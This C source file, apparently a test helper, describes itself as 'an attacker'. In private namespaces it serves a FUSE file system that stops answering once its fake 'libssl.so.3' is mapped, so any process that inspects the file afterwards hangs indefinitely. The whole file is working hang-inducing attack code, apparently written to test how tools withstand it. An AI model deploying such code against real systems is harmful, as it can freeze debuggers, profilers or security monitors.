/* mute_fuse.c - an attacker: a file system of its own, in namespaces of its own, whose server
 * answers until a file of it is mapped, and then never again. A process that asks it for anything
 * from then on waits for ever.
 *
 * mute_fuse DEVICE DIR LIBRARY [overlay]
 *
 * DEVICE is /dev/fuse, or such a node. DIR gets the mounts. LIBRARY is what the only file,
 * "libssl.so.3", holds: at 0x1000 a function that calls getpid. With `overlay` an overlay lies
 * above it, which asks with its owner's rights, no matter which process opens a file of it. It
 * prints "ready" once the file is mapped, and calls the function 50 times a second for a minute;
 * SIGTERM ends both. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

enum { ROOT = 1, FILE_NODE = 2, LARGEST = 1 << 20 };
static unsigned char data[LARGEST];
static size_t bytes;
static volatile sig_atomic_t mute;

static void die(const char *what)
{
	perror(what);
	exit(1);
}
static pid_t child;
static void end(int sig)
{
	(void)sig;
	kill(child, SIGKILL);
	_exit(0);
}
static void be_mute(int sig)
{
	(void)sig;
	mute = 1;
}
static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		die(path);
	close(fd);
}

static struct fuse_attr attr_of(unsigned long node)
{
	struct fuse_attr a = {.ino = node,
			      .mode = node == ROOT ? S_IFDIR | 0755 : S_IFREG | 0755,
			      .nlink = 1,
			      .blksize = 4096};

	if (node == FILE_NODE) {
		a.size = bytes;
		a.blocks = (bytes + 511) / 512;
	}
	return a;
}

static void reply(int dev, const struct fuse_in_header *in, int error, const void *p, size_t n)
{
	struct fuse_out_header out = {
		.len = (unsigned)(sizeof(out) + n), .error = error, .unique = in->unique};
	struct iovec v[2] = {{&out, sizeof(out)}, {(void *)p, n}};

	if (writev(dev, v, 2) < 0 && errno != ENOENT)
		die("answer of the file system");
}

static void answer(int dev, const struct fuse_in_header *in)
{
	const void *arg = in + 1;

	switch (in->opcode) {
	case FUSE_INIT: {
		struct fuse_init_out o = {.major = FUSE_KERNEL_VERSION,
					  .minor = 31,
					  .max_readahead = 65536,
					  .max_write = 4096};

		reply(dev, in, 0, &o, sizeof(o));
		break;
	}
	case FUSE_LOOKUP: {
		struct fuse_entry_out o = {.nodeid = FILE_NODE, .attr = attr_of(FILE_NODE)};

		if (strcmp(arg, "libssl.so.3"))
			reply(dev, in, -ENOENT, NULL, 0);
		else
			reply(dev, in, 0, &o, sizeof(o));
		break;
	}
	case FUSE_GETATTR: {
		struct fuse_attr_out o = {.attr = attr_of(in->nodeid)};

		reply(dev, in, 0, &o, sizeof(o));
		break;
	}
	case FUSE_OPEN:
	case FUSE_OPENDIR: {
		struct fuse_open_out o = {.fh = 1};

		reply(dev, in, 0, &o, sizeof(o));
		break;
	}
	case FUSE_READ: {
		const struct fuse_read_in *r = arg;
		size_t n = r->offset < bytes ? bytes - r->offset : 0;

		reply(dev, in, 0, data + r->offset, n < r->size ? n : r->size);
		break;
	}
	case FUSE_READDIR: reply(dev, in, 0, NULL, 0); break;
	case FUSE_STATFS: {
		struct fuse_statfs_out o = {.st = {.bsize = 4096, .namelen = 255}};

		reply(dev, in, 0, &o, sizeof(o));
		break;
	}
	case FUSE_RELEASE:
	case FUSE_RELEASEDIR:
	case FUSE_FLUSH: reply(dev, in, 0, NULL, 0); break;
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
	case FUSE_INTERRUPT: break;
	default: reply(dev, in, -ENOSYS, NULL, 0);
	}
}

static void serve(int dev)
{
	static char buf[LARGEST];

	alarm(120); /* nobody waits for it longer than that */
	signal(SIGTERM, SIG_DFL);
	signal(SIGUSR1, be_mute);
	for (;;) {
		ssize_t n = read(dev, buf, sizeof(buf));

		if (n < 0 && errno != EINTR && errno != ENOENT)
			_exit(0);
		if (n >= (ssize_t)sizeof(struct fuse_in_header) && !mute)
			answer(dev, (void *)buf);
	}
}

int main(int argc, char **argv)
{
	char fuse[200], options[500], path[300], map[40];
	int dev, fd, overlay = argc > 4;
	void (*call)(void);
	FILE *f;

	if (argc < 4 || chdir(argv[2]) || !(f = fopen(argv[3], "r")))
		die("mute_fuse DEVICE DIR LIBRARY [overlay]");
	bytes = fread(data, 1, sizeof(data), f);
	fclose(f);
	snprintf(map, sizeof(map), "0 %u 1", geteuid());
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		die("namespaces");
	put("/proc/self/setgroups", "deny");
	put("/proc/self/uid_map", map);
	put("/proc/self/gid_map", map);
	dev = open(argv[1], O_RDWR | O_CLOEXEC); /* by the namespace that mounts it */
	if (dev < 0)
		die(argv[1]);
	if (mount("none", argv[2], "tmpfs", 0, "") || chdir(argv[2]) || mkdir("fuse", 0755) ||
	    mkdir("empty", 0755) || mkdir("top", 0755))
		die("a file system in memory");
	snprintf(fuse, sizeof(fuse), "%s/fuse", argv[2]);
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other",
		 dev);
	if (mount("mute", fuse, "fuse", MS_NOSUID | MS_NODEV, options))
		die("mount of FUSE");
	signal(SIGTERM, end);
	child = fork();
	if (!child)
		serve(dev);
	close(dev);
	snprintf(options, sizeof(options), "lowerdir=%s/empty:%s", argv[2], fuse);
	snprintf(path, sizeof(path), "%s/libssl.so.3", fuse);
	if (overlay) {
		if (mount("overlay", "top", "overlay", 0, options))
			die("overlay");
		if (mount("top", "/opt", NULL, MS_BIND, NULL)) /* where libraries are looked for */
			die("/opt");
		snprintf(path, sizeof(path), "%s/top/libssl.so.3", argv[2]);
	}
	fd = open(path, O_RDONLY | O_CLOEXEC);
	call = fd < 0 ? MAP_FAILED
		      : mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0x1000);
	if (call == MAP_FAILED)
		die(path);
	call();
	if (mlock((void *)call, 4096)) /* the page must not be asked for again */
		die("mlock");
	kill(child, SIGUSR1);
	puts("ready");
	fflush(stdout);
	for (int i = 0; i < 3000; i++) {
		call();
		usleep(20000);
	}
	kill(child, SIGKILL);
	return 0;
}
